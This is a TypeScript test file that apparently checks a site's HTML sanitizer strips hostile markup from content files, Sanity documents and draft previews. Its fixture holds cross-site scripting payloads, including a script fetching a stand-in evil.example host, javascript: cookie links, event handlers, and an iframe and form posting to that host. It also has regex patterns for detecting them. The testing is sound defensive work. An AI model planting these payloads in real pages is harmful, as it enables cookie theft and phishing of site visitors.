/**
 * Content HTML is sanitized the same way wherever it is shown: public pages from content/ or from
 * Sanity, and the staff draft preview. What an attacker with an editor's account could write
 * (scripts, event handlers, javascript: links, meta refreshes, frames, forms, styles) is gone; what
 * the texts legitimately use is kept, byte for byte for the shipped content.
 */
import { createSatteriMarkdownProcessor } from '@astrojs/markdown-satteri';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentHtml, sanitizeContentHtml } from '#kernel/content/content-html.ts';
import { DOCUMENT_KINDS } from '#kernel/content/sanity-documents.ts';
import { loadDraft } from '../../../functions/cms/draft-preview.ts';
import { exportContent } from '../../../functions/cms/export-content.ts';
import { loadConfig } from '../../../functions/config/load-config.ts';
import { sanityLoader } from '../../../src/content/sanity/loader.ts';
import { readMarkdownCollection } from '../../helpers/content-files.ts';
import {
  type SanityStandIn,
  type StandInDocument,
  startSanityStandIn,
} from '../../helpers/sanity-stand-in.ts';

const HOSTILE = `## Where to get help

Call [the hotline](tel:+9771234567), text [us](sms:+9771234567), write to [the office](mailto:help@example.org),
read [the guide](~/guides/warning-signs/) or [the law](https://example.org/law).

- first
- **second**

| country | number |
| --- | --- |
| Nepal | 1145 |

![A poster](https://example.org/poster.png)

<script>fetch('https://evil.example/steal')</script>

<img src="https://example.org/x.png" alt="x" onerror="alert(1)">

[Claim your visa](javascript:alert(document.cookie)) <a href=" JaVaScRiPt:alert(1)">again</a>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<iframe src="https://evil.example/login"></iframe>

<form action="https://evil.example/collect"><input name="passport"><button>Send</button></form>

<p style="position:fixed;inset:0">Your session expired</p><style>body{display:none}</style>

<svg><a href="javascript:alert(1)">svg link</a></svg> <details open ontoggle="alert(1)">more</details>`;

const GONE: [string, RegExp][] = [
  ['script', /<script/i],
  ['event handlers', /\son[a-z]+=/i],
  ['javascript: links', /<[^>]*javascript:/i],
  ['meta refresh', /<meta|http-equiv/i],
  ['frames', /<iframe/i],
  ['forms', /<form|<input|<button/i],
  ['styles', /<style|\sstyle=/i],
  ['svg', /<svg/i],
];

function expectSafe(html: string) {
  for (const [what, pattern] of GONE) expect(html, what).not.toMatch(pattern);
  expect(html).toContain('<h2 id="where-to-get-help">Where to get help</h2>');
  expect(html).toContain('href="tel:+9771234567"');
  expect(html).toContain('href="sms:+9771234567"');
  expect(html).toContain('href="mailto:help@example.org"');
  expect(html).toContain('href="/fr/guides/warning-signs/"');
  expect(html).toContain('href="https://example.org/law"');
  expect(html).toContain('<strong>second</strong>');
  expect(html).toContain('<td>1145</td>');
  expect(html).toContain('<img src="https://example.org/poster.png" alt="A poster">');
}

const renderer = createSatteriMarkdownProcessor();
const render = async (markdown: string) =>
  (await (await renderer).render(markdown, { frontmatter: {} })).code;

describe('content HTML', () => {
  it('keeps every shipped Markdown text exactly as rendered', async () => {
    const files = ['guides', 'campaigns', 'pages'].flatMap((c) => readMarkdownCollection(c));
    expect(files.length).toBeGreaterThan(100);
    for (const file of files) {
      const html = await render(file.body.trim());
      expect(sanitizeContentHtml(html), file.file).toBe(html);
    }
  });

  it('removes what an attacker could write in a content/ file', async () => {
    const raw = await render(HOSTILE);
    // The Markdown renderer passes raw HTML through: all of it reaches the sanitizer.
    for (const [what, pattern] of GONE) expect(raw, what).toMatch(pattern);
    expectSafe(contentHtml(raw, 'fr'));
  });
});

describe('content HTML from Sanity', () => {
  let standIn: SanityStandIn;
  const TOKEN = 'preview-token';
  beforeAll(async () => {
    const documents = (await exportContent()) as StandInDocument[];
    const original = documents.find((d) => d._id === 'guide.warning-signs.fr')!;
    const hostile = { ...original, body: HOSTILE };
    standIn = await startSanityStandIn({
      documents: [
        ...documents.filter((d) => d._id !== original._id),
        hostile,
        { ...hostile, _id: `drafts.${original._id}` },
      ],
      token: TOKEN,
    });
  });
  afterAll(() => standIn.close());

  it('removes it from a published document, which then matches the same text from content/', async () => {
    const entries = new Map<string, { rendered?: { html: string } }>();
    const kind = DOCUMENT_KINDS.find((k) => k.collection === 'guides')!;
    await sanityLoader('guides', {
      projectId: 'waymark',
      dataset: 'production',
      apiHost: standIn.url,
      apiVersion: '2025-02-19',
    }).load({
      collection: 'guides',
      store: {
        clear: () => entries.clear(),
        set: (entry: { id: string; rendered?: { html: string } }) => entries.set(entry.id, entry) && true,
      },
      parseData: async ({ data }: { data: Record<string, unknown> }) => kind.schema.parse(data),
      renderMarkdown: async (body: string) => ({ html: await render(body), metadata: {} }),
      generateDigest: (data: unknown) => String(JSON.stringify(data).length),
      logger: { info: () => {} },
    } as never);
    const page = contentHtml(entries.get('warning-signs/fr')!.rendered!.html, 'fr');
    expectSafe(page);
    expect(page).toBe(contentHtml(await render(HOSTILE), 'fr'));
  });

  it('removes it from the staff draft preview', async () => {
    const config = loadConfig({
      SANITY_PROJECT_ID: 'waymark',
      SANITY_DATASET: 'production',
      SANITY_API_HOST: standIn.url,
      SANITY_READ_TOKEN: TOKEN,
    });
    const preview = await loadDraft(config, 'guide', 'guide.warning-signs.fr');
    expect(preview.state).toBe('ok');
    if (preview.state !== 'ok') return;
    expect(preview.isDraft).toBe(true);
    expectSafe(preview.html!);
  });
});
